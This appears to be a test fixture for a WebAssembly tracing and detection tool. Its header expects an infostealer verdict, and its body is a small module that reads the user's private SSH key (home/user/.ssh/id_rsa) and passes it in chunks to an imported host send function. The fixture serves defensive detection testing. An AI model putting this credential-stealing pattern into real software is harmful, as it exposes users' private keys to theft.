;; RUN: spoor trace % --json
;; WHAT: Reads a private key and hands it to a function of its host that sends.
;; EXPECT: verdict=SUSPICIOUS|MALICIOUS family=infostealer rule=exfiltration/network status=exited
(module
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "env" "send" (func $send (param i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (func (export "_start") (local $at i32)
    (drop (call $path_open (i32.const 3) (i32.const 1) (i32.const 512) (i32.const 21) (i32.const 0)
      (i64.const 0x200006) (i64.const 0) (i32.const 0) (i32.const 12)))
    (i32.store (i32.const 0) (i32.const 4096))
    (i32.store (i32.const 4) (i32.const 4096))
    (drop (call $fd_read (i32.load (i32.const 12)) (i32.const 0) (i32.const 1) (i32.const 8)))
    (loop $piece
      (drop (call $send (i32.const 1) (i32.add (i32.const 4096) (local.get $at)) (i32.const 256)))
      (br_if $piece
        (i32.lt_u (local.tee $at (i32.add (local.get $at) (i32.const 256))) (i32.load (i32.const 8))))))
  (data (i32.const 512) "home/user/.ssh/id_rsa"))
